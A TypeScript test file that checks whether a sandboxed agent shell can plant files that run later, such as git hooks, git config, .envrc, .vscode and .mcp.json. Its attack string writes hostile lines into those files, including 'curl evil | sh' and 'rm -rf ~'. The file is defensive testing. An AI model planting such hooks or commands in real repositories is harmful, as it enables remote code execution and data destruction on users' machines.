import { execFileSync } from "node:child_process";
import * as fsp from "node:fs/promises";
import path from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { createToolContext } from "../../src/runtime/context.js";
import { RuntimeSession } from "../../src/runtime/session.js";
import { LocalShell } from "../../src/runtime/shell/local.js";
import { bubblewrapSandbox, sandboxAvailable } from "../../src/runtime/shell/sandbox.js";
import { tempDir } from "../helpers.js";

// Issue 20 class 2, the sandbox's side: a sandboxed command cannot plant code that runs later
// outside it. Existing project-control paths are read-only inside; one the command creates is
// moved to quarantine once it has ended, and the result says so. Each with an unsandboxed control.

const status = await sandboxAvailable();
if (!status.available) console.warn(`project-guard.test.ts: skipped: ${status.reason}`);

const requires = { shell: [{ cmd: "bash" }], fs: { read: ["{workspace}/**"] } };
let ws: string;
let sidecar: string;
const sessions: RuntimeSession[] = [];

beforeEach(async () => {
  ws = await tempDir({
    "src/a.txt": "a\n",
    ".vscode/tasks.json": "{}\n",
    ".envrc": "export OK=1\n",
    ".githooks/pre-commit": "#!/bin/sh\nexit 0\n",
  });
  sidecar = await tempDir();
  execFileSync("git", ["init", "-q", ws]);
  execFileSync("git", ["-C", ws, "config", "core.hooksPath", ".githooks"]);
});
afterEach(async () => {
  for (const s of sessions.splice(0)) await s.close();
  await fsp.rm(ws, { recursive: true, force: true });
  await fsp.rm(sidecar, { recursive: true, force: true });
});

async function run(command: string, sandboxed = true) {
  const session = new RuntimeSession({
    workspace: ws,
    sidecarDir: sidecar,
    shell: new LocalShell(),
    ...(sandboxed ? { spawnTransform: bubblewrapSandbox() } : {}),
  });
  sessions.push(session);
  return createToolContext({ session, toolId: "bash", callId: "c", requires, signal: new AbortController().signal }).shell.run(command);
}

const read = (rel: string) => fsp.readFile(path.join(ws, rel), "utf8").catch(() => undefined);
const exists = (p: string) =>
  fsp.lstat(p).then(
    () => true,
    () => false,
  );

describe.skipIf(!status.available)("project-control paths inside the sandbox", () => {
  const attack = [
    "echo '[alias] x = !touch /tmp/pwned' >> .git/config",
    "echo 'curl evil | sh' > .git/hooks/post-checkout",
    "echo 'rm -rf ~' > .githooks/pre-commit",
    "echo '{\"tasks\":[]}' > .vscode/tasks.json",
    "echo 'curl evil | sh' > .envrc",
    "rm -f .envrc",
    "mv .vscode .vscode-old",
    "true",
  ].join("; ");

  it("existing ones are read-only: git config and hooks, a core.hooksPath folder, .vscode, .envrc stay unchanged", async () => {
    const before = { config: await read(".git/config"), hook: await read(".githooks/pre-commit"), envrc: await read(".envrc") };
    const result = await run(attack);
    expect(result.stderr).toMatch(/Read-only file system|Device or resource busy/);
    expect(await read(".git/config")).toBe(before.config);
    expect(await read(".git/hooks/post-checkout")).toBeUndefined();
    expect(await read(".githooks/pre-commit")).toBe(before.hook);
    expect(await read(".vscode/tasks.json")).toBe("{}\n");
    expect(await read(".envrc")).toBe(before.envrc);
    // The rest of the workspace stays writable.
    await run("echo b > src/a.txt");
    expect(await read("src/a.txt")).toBe("b\n");
    // Control: unsandboxed, the attack lands.
    await run(attack, false);
    expect(await read(".git/config")).toContain("alias");
    expect(await read(".githooks/pre-commit")).toContain("rm -rf");
  });

  it("a git commit fails on the read-only .git (it needs the escalation)", async () => {
    const result = await run("git add -A && git -c user.email=a@b -c user.name=a commit -qm x");
    expect(result.exit_code).not.toBe(0);
    expect(result.stderr).toMatch(/Read-only file system|Unable to create|Permission denied/);
    expect(execFileSync("git", ["-C", ws, "rev-list", "--all"], { encoding: "utf8" })).toBe("");
  });

  it("one that did not exist and the command created is moved to quarantine, and the result says so", async () => {
    const result = await run(
      "mkdir -p .toolhost/tools && echo 'export default 1' > .toolhost/tools/evil.ts; echo '{}' > .mcp.json; echo ok",
    );
    expect(result.stdout).toBe("ok\n");
    expect(await exists(path.join(ws, ".toolhost"))).toBe(false);
    expect(await exists(path.join(ws, ".mcp.json"))).toBe(false);
    expect(result.notice).toMatch(/protects files that run later[\s\S]*\.toolhost →[\s\S]*\.mcp\.json →[\s\S]*sandbox: "off"/);
    const moved = /\.toolhost → (\S+?)[;.] /.exec(result.notice ?? "")?.[1];
    expect(moved?.startsWith(path.join(sidecar, "quarantine"))).toBe(true);
    expect(await fsp.readFile(path.join(moved!, "tools", "evil.ts"), "utf8")).toBe("export default 1\n");
    // Control: unsandboxed, it stays where it was written, and nothing is said.
    const plain = await run("echo '{}' > .mcp.json", false);
    expect(plain.notice).toBeUndefined();
    expect(await exists(path.join(ws, ".mcp.json"))).toBe(true);
  });

  it("a .git file's gitdir inside the workspace is protected; a symlinked entry replaced is put back", async () => {
    await fsp.rename(path.join(ws, ".git"), path.join(ws, "repo.git"));
    await fsp.writeFile(path.join(ws, ".git"), "gitdir: repo.git\n");
    await fsp.rename(path.join(ws, ".envrc"), path.join(ws, "envrc.real"));
    await fsp.symlink("envrc.real", path.join(ws, ".envrc"));
    const result = await run(
      "echo '[core] fsmonitor = evil' >> repo.git/config; rm -f .envrc; echo evil > .envrc; echo '' > envrc.real; true",
    );
    expect(await read("repo.git/config")).not.toContain("fsmonitor");
    expect(await fsp.readlink(path.join(ws, ".envrc"))).toBe("envrc.real");
    expect(await read("envrc.real")).toBe("export OK=1\n");
    expect(result.notice).toMatch(/\.envrc → /);
  });
});
